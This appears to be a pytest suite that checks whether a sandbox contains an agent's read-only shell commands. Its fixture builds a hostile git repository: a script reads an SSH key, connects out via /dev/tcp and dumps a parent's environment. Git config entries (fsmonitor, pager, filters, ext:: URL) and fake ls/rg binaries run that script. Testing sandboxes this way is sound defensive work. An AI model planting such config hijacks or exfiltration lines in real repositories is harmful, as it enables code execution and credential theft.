"""Commands that only read run unasked in the real sandbox, in a repository that attacks."""

from __future__ import annotations

import asyncio
import os
import shutil
import stat
import subprocess
import tempfile
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest

from callgate.core.sessions import Mode, Root
from callgate.dispatch.commands.sandboxes import Sandbox, Surroundings
from callgate.dispatch.permission.confirmations import Answer, Scope
from callgate.dispatch.permission.question_building import READ_HINT as HINT
from callgate.policy.read_commands import reads_only
from callgate.policy.read_programs import FIND_TESTS, GIT, PROGRAMS, VERSIONS, Reader
from callgate.policy.rules import Outcome, Policy, PolicyMode, Rule, Setting
from callgate.sandbox import machines
from callgate.tools.shell import Shell
from tests.support import Bench, FakeHuman

ALLOW = Policy(read_commands=Setting(PolicyMode.AUTO))
PASSWORD = "correct horse battery"


@pytest.fixture(scope="module")
def backends() -> Any:
    found = machines.look_now()
    if all(each.problem for each in found if each.name in ("namespaces", "bubblewrap")):
        pytest.skip("needs namespaces: not for us here")
    return found


class Canary:
    """A server that counts who connects."""

    def __init__(self) -> None:
        self.count = 0

    async def __aenter__(self) -> Canary:
        self._server = await asyncio.start_server(self._meet, "127.0.0.1", 0)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def _meet(self, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.count += 1
        writer.close()

    async def __aexit__(self, *_: object) -> None:
        self._server.close()


class World:
    def __init__(self, base: Path, sandbox: Sandbox, canary: Canary) -> None:
        self.base, self.sandbox, self.canary = base, sandbox, canary
        self.ws = base / "ws"

    def bench(self, policy: Policy = ALLOW, **more: Any) -> Bench:
        return Bench(self.ws, Shell, policy=policy, sandbox=self.sandbox, mode=more.pop("mode", Mode.ASK), **more)

    def seen(self) -> dict[str, Any]:
        """Every file with its content, mode and time, and what a program left elsewhere."""
        found: dict[str, Any] = {}
        for root in (self.ws, self.base / "home", self.base / "out"):
            for path in sorted(root.rglob("*")):
                facts = path.lstat()
                content = path.read_bytes() if stat.S_ISREG(facts.st_mode) else None
                found[str(path)] = (facts.st_mode, facts.st_mtime_ns, facts.st_size, content)
        return found


@pytest.fixture
def base() -> Iterator[Path]:
    """Not in /tmp, which commands do not see."""
    with tempfile.TemporaryDirectory(prefix="callgate-", dir="/var/tmp") as made:
        base = Path(made)
        for name in ("ws", "home/.ssh", "home/.callgate", "out"):
            (base / name).mkdir(parents=True)
        (base / "home/.ssh/id").write_text(PASSWORD)
        yield base


@pytest.fixture
async def world(base: Path, backends: Any, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[World]:
    monkeypatch.setenv("PATH", f"{base}/ws/bin:{os.environ['PATH']}")
    surroundings = Surroundings(home=str(base / "home"), callgate_home=str(base / "home/.callgate"))
    async with Canary() as canary:
        make_hostile(base, canary.port)
        sandbox = Sandbox(surroundings, backends)
        yield World(base, sandbox, canary)
        sandbox.close()


def make_hostile(base: Path, port: int) -> None:
    """A repository in which git, the shell and the file system all lead astray."""
    ws = base / "ws"
    evil = ws / "evil.sh"
    evil.write_text(
        "#!/bin/bash\n"
        f"echo pwned > {ws}/PWNED; echo pwned > {base}/out/PWNED; echo pwned > /var/tmp/PWNED-{port}\n"
        f"/bin/chmod 777 {ws}/a.txt; /bin/rm -f {ws}/b.txt; /bin/mkdir {ws}/.git/new; /bin/cat {base}/home/.ssh/id\n"
        f"(echo x > /dev/tcp/127.0.0.1/{port}) 2>&1\n"
        "/bin/cat /proc/$PPID/environ\n"
        "exit 0\n"
    )
    evil.chmod(0o755)
    for name in ("a.txt", "b.txt"):
        (ws / name).write_text("".join(f"{n} foo bar\n" for n in range(50)))
    (ws / "src").mkdir()
    (ws / "src/main.py").write_text("def main():\n    pass\n")
    (ws / "package.json").write_text('{"name": "x"}')
    git = ["git", "-c", "user.name=x", "-c", "user.email=x@example.com", "-C", str(ws)]
    plain = {"env": {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null"}, "check": True, "capture_output": True}
    subprocess.run(["git", "init", "-q", str(ws)], **plain)  # type: ignore[call-overload]
    subprocess.run([*git, "add", "a.txt", "b.txt", "src"], **plain)  # type: ignore[call-overload]
    subprocess.run([*git, "commit", "-qm", "first"], **plain)  # type: ignore[call-overload]
    (ws / "a.txt").write_text("changed\n")
    (ws / ".gitattributes").write_text("* diff=evil filter=evil merge=evil\n")
    with (ws / ".git/config").open("a") as config:
        config.write(
            f"[core]\n\tfsmonitor = {evil}\n\tpager = {evil}\n\thooksPath = {ws}/hooks\n\teditor = {evil}\n"
            f"\tsshCommand = {evil}\n\taskPass = {evil}\n"
            f"[pager]\n\tlog = {evil}\n\tstatus = {evil}\n[alias]\n\tst = !{evil}\n\tstatus = !{evil}\n"
            f'[diff]\n\texternal = {evil}\n[diff "evil"]\n\ttextconv = {evil}\n\tcommand = {evil}\n'
            f'[filter "evil"]\n\tclean = {evil}\n\tsmudge = {evil}\n\tprocess = {evil}\n'
            f"[gpg]\n\tprogram = {evil}\n[log]\n\tshowSignature = true\n[submodule]\n\trecurse = true\n"
            f'[url "ext::{evil} "]\n\tinsteadOf = x://\n[interactive]\n\tdiffFilter = {evil}\n'
        )
    for hook in ("post-index-change", "fsmonitor-watchman", "reference-transaction"):
        (ws / "hooks").mkdir(exist_ok=True)
        shutil.copy(evil, ws / "hooks" / hook)
        shutil.copy(evil, ws / ".git/hooks" / hook)
    (ws / "bin").mkdir()
    for program in ("ls", "rg", "fd", "tree"):
        shutil.copy(evil, ws / "bin" / program)
    (ws / "secret").symlink_to(base / "home/.ssh/id")
    (ws / "secrets").symlink_to(base / "home/.ssh")
    (ws / "system").symlink_to("/etc/passwd")
    os.mkfifo(ws / "fifo")
    (ws / "-o").write_text("x\n")
    (ws / ".rgignore").write_text("")


def options_of(reader: Reader) -> Iterator[str]:
    """Every option of a program, each with the others that it needs."""
    needed = "".join(f"-{each} " for each in sorted(reader.needs)[:1] if len(each) == 1)
    for letter in reader.flags + reader.optional:
        yield f"{needed}-{letter}"
    for letter in reader.values:
        yield f"{needed}-{letter} 1"
    for name in sorted(reader.long | reader.long_optional):
        yield f"{needed}--{name}"
    for name in sorted(reader.long_values | reader.long_optional | reader.long_formats):
        yield f"{needed}--{name}=1"
    if reader.counts:
        yield f"{needed}-3"
    yield needed


def every_command() -> Iterator[str]:
    scripts = {"pattern": "foo", "sed": "1,2p", "awk": "'{print $1}'", "jq": ".", "printf": "%s", "": ""}
    operands = {"none": "", "format": "+%Y", "text": "x"}
    for program, reader in PROGRAMS.items():
        operand = operands.get(reader.operands, "package.json" if program == "jq" else "a.txt")
        for option in options_of(reader):
            script = "" if set(option.replace("-", "").split()) & reader.script_options else scripts[reader.script]
            yield f"{program} {option} {script} {operand}"
    for name, reader in GIT.items():
        script = "foo" if reader.script else ""
        for option in options_of(reader):
            yield f"git {name} {option} {script} {'HEAD' if name == 'cat-file' else ''}"
    for word, count in FIND_TESTS.items():
        if word not in ("(", ")", "!", "-not", "-a", "-and", "-o", "-or"):
            yield f"find . {word} {'1' * count}"
    for program, questions in VERSIONS.items():
        yield from (f"{program} {question}" for question in sorted(questions))


@pytest.mark.soak
async def test_no_listed_option_writes_leaves_the_sandbox_or_reaches_the_network(world: World) -> None:
    commands = [each for each in every_command() if reads_only(each) is not None]
    assert len(commands) > 700
    before = world.seen()
    bench = world.bench()
    texts = []
    for at in range(0, len(commands), 20):
        line = "; ".join(commands[at : at + 20])
        result = await bench.run("shell", {"command": line[:4_000], "timeout_seconds": 120})
        assert result.error is None or result.error.reason != "no_confirmer", line
        texts.append(result.text)
        record = bench.recorder.records[-1]
        assert (record.sandbox, record.policy) == ("read", "read_commands (built-in default)")
    assert world.seen() == before
    assert world.canary.count == 0
    assert not os.path.exists(f"/var/tmp/PWNED-{world.canary.port}")
    assert PASSWORD not in "".join(texts)
    assert "Read-only file system" in "".join(texts), "the attack ran, in the sandbox"


READ = [
    "git status", "git diff", "git log -p", "git show", "git blame a.txt", "git stash list", "git grep foo",
    "ls -la", "cat a.txt", "grep -rn foo .", "find . -type f", "cd src && ls", "head -3 a.txt | wc -l",
    "ls -R", "du -a .", "cat missing.txt", "git -C src log --oneline", "sort -- -o", "cat ./-o",
]  # fmt: skip


@pytest.mark.parametrize("command", READ)
@pytest.mark.parametrize("mode", [Mode.ASK, Mode.GUARDED])
async def test_it_runs_unasked_where_nothing_can_change(world: World, command: str, mode: Mode) -> None:
    before = world.seen()
    bench = world.bench(ALLOW if mode is Mode.ASK else Policy(), mode=mode)
    result = await bench.run("shell", {"command": command, "timeout_seconds": 60})
    assert result.error is None or result.error.reason not in ("no_confirmer", "timeout"), result.error
    assert PASSWORD not in result.text
    assert world.seen() == before
    assert world.canary.count == 0


@pytest.mark.parametrize(
    "command",
    [
        "cat secret", "ls secrets", "cat secrets/id", "grep -n x secret", "head system", "cat /etc/passwd",
        "cat /proc/self/environ", "cat ../home/.ssh/id", "cd .. && ls", "cd secrets && cat id", "ls /",
        "git -C .. status", "git -C secrets status", "git diff /etc/passwd a.txt", "cat fifo", "head -c 9 fifo",
        "cat /dev/zero", "diff src secrets", "diff src src", "find /etc -name passwd", "find .. -newer secret",
        "test -f secret", "file /etc/shadow", "cat a.txt ../out", "wc -l /dev/stdin",
    ],
)  # fmt: skip
async def test_what_a_file_tool_would_not_read_needs_approval(world: World, command: str) -> None:
    assert reads_only(command) is not None
    result = await world.bench().run("shell", {"command": command})
    assert result.error is not None
    assert result.error.reason == "no_confirmer"


@pytest.mark.parametrize(
    "command",
    [
        "git diff -U {other} a.txt", "git diff --unified {other} a.txt", "od -c -w {other}", "git log -U {other}",
        "grep -e x --context {other}", "head -n {other}",
    ],
)  # fmt: skip
async def test_a_value_that_a_program_could_take_for_a_file_needs_approval(world: World, command: str) -> None:
    other = world.base / "out/other"
    other.write_text("another project\n")
    result = await world.bench().run("shell", {"command": command.format(other=other)})
    assert result.error is not None
    assert result.error.reason == "no_confirmer"


def values_that_are_texts() -> Iterator[list[str]]:
    for at, readers in (([], PROGRAMS), (["git"], GIT)):
        for name, reader in readers.items():
            for each in sorted(reader.texts & (set(reader.values) | reader.long_values)):
                yield [*at, *name.split(), f"-{each}" if len(each) == 1 else f"--{each}"]


@pytest.mark.parametrize("words", [*values_that_are_texts()], ids=" ".join)
def test_a_value_that_is_not_followed_as_a_path_is_opened_by_no_program(base: Path, words: list[str]) -> None:
    if shutil.which(words[0]) is None:
        pytest.skip(f"needs {words[0]}")
    subprocess.run(["git", "init", "-q", str(base)], check=True)
    canary, plain = base / "out/canary", base / "out/plain"
    canary.write_text(f"{PASSWORD}\n")
    plain.write_text("x\n")
    for operands in ([], [str(plain)], ["x", str(plain)], ["{print $1}", str(plain)]):
        done = subprocess.run(
            [*words, str(canary), *operands], capture_output=True, stdin=subprocess.DEVNULL, cwd=base, timeout=60
        )
        assert PASSWORD.encode() not in done.stdout + done.stderr


def init(directory: Path, *options: str) -> None:
    subprocess.run(["git", "init", "-q", *options, str(directory)], check=True, capture_output=True)


@pytest.mark.parametrize("command", ["git status", "git -C part log -p", "cd part && git grep x :/"])
async def test_a_repository_outside_of_the_workspace_needs_approval(base: Path, backends: Any, command: str) -> None:
    (base / "ws/part").mkdir()
    surroundings = Surroundings(home=str(base / "home"), callgate_home=str(base / "home/.callgate"))
    sandbox = Sandbox(surroundings, backends)

    async def reason() -> str | None:
        bench = Bench(base / "ws", Shell, policy=ALLOW, sandbox=sandbox, mode=Mode.ASK)
        result = await bench.run("shell", {"command": command})
        return None if result.error is None else result.error.reason

    assert await reason() != "no_confirmer", "there is none at all"
    init(base)
    assert await reason() == "no_confirmer", "above the workspace"
    (base / "ws/.git").mkdir()
    assert await reason() == "no_confirmer", "git passes over an empty .git"
    init(base / "ws")
    assert await reason() != "no_confirmer"
    init(base / "out")
    (base / "ws/part/.git").write_text(f"gitdir: {base}/out/.git\n")
    assert (await reason() == "no_confirmer") is ("part" in command), "a pointer"
    (base / "ws/part/.git").unlink()
    (base / "ws/part/.git").symlink_to(base / "out/.git")
    assert (await reason() == "no_confirmer") is ("part" in command), "a link"
    (base / "ws/part/.git").unlink()
    init(base / "ws/part", "--bare")
    assert (await reason() == "no_confirmer") is ("part" in command), "files that a clone may have"
    shutil.rmtree(base / "ws/part")
    (base / "ws/.git/modules").mkdir()
    init(base / "ws/part", f"--separate-git-dir={base}/ws/.git/modules/part")
    assert await reason() != "no_confirmer", "a submodule"
    shutil.rmtree(base / "ws/.git")
    shutil.rmtree(base / "ws/part")
    (base / "ws/part").mkdir()
    (base / "ws/.git").write_text(f"gitdir: {base}/out/.git\n")
    assert await reason() != "no_confirmer", "a worktree that the user chose"
    sandbox.close()


async def test_a_tool_that_was_denied_for_the_session_stays_denied(world: World) -> None:
    human = FakeHuman(Answer(decision=Outcome.DENY, scope=Scope.SESSION))
    bench = world.bench(human=human)
    await bench.run("shell", {"command": "touch x"})
    result = await bench.run("shell", {"command": "ls"})
    assert result.error is not None
    assert result.error.reason == "sticky"


async def test_the_network_is_no_part_of_it(world: World) -> None:
    result = await world.bench().run("shell", {"command": "ls", "network": True})
    assert result.error is not None
    assert result.error.reason == "no_confirmer"


@pytest.mark.parametrize("decision", [Outcome.ASK, Outcome.DENY])
async def test_a_rule_about_a_path_holds(world: World, decision: Outcome) -> None:
    rule = Rule(decision=decision, path="b.txt")
    bench = world.bench(Policy(read_commands=ALLOW.read_commands, rules=(rule,)))
    named = await bench.run("shell", {"command": "/bin/true; cat b.txt"})
    assert named.error is not None
    hidden = await bench.run("shell", {"command": "cat b.txt"})
    assert "foo bar" not in hidden.text
    if decision is Outcome.ASK:
        assert hidden.error is not None
        assert hidden.error.reason == "no_confirmer"
    assert "foo bar" not in (await bench.run("shell", {"command": "find . -name b.txt -size +1c"})).text


async def test_an_extra_root_counts_as_for_file_tools(world: World) -> None:
    (world.base / "extra").mkdir()
    (world.base / "extra/notes").write_text("hello there")
    bench = world.bench()
    bench.session.extra_roots = (Root(str(world.base / "extra")),)
    result = await bench.run("shell", {"command": f"head -1 {world.base}/extra/notes"})
    assert "hello there" in result.text


async def test_a_machine_without_the_read_only_sandbox_asks_as_before(base: Path) -> None:
    from tests.kernel.dispatch.test_sandboxes import NOTHING  # noqa: PLC0415

    surroundings = Surroundings(home=str(base / "home"), callgate_home=str(base / "home/.callgate"), profile=None)
    sandbox = Sandbox(surroundings, NOTHING)
    result = await Bench(base / "ws", Shell, policy=ALLOW, sandbox=sandbox).run("shell", {"command": "ls"})
    sandbox.close()
    assert result.error is not None
    assert result.error.reason == "no_confirmer"


async def test_the_third_question_mentions_the_setting_once(world: World) -> None:
    human = FakeHuman(*["deny"] * 6)
    bench = world.bench(Policy(), human=human)
    for command in ("ls", "git status", "touch x", "grep -r foo .", "cat a.txt", "pwd"):
        await bench.run("shell", {"command": command})
    assert [HINT in each.why for each in human.questions] == [False, False, False, True, False, False]


async def test_nobody_is_told_of_a_setting_that_they_made(world: World) -> None:
    human = FakeHuman(*["deny"] * 6)
    bench = world.bench(Policy(read_commands=Setting(PolicyMode.PROMPT)), human=human)
    for _ in range(4):
        await bench.run("shell", {"command": "ls"})
    assert not any(HINT in each.why for each in human.questions)
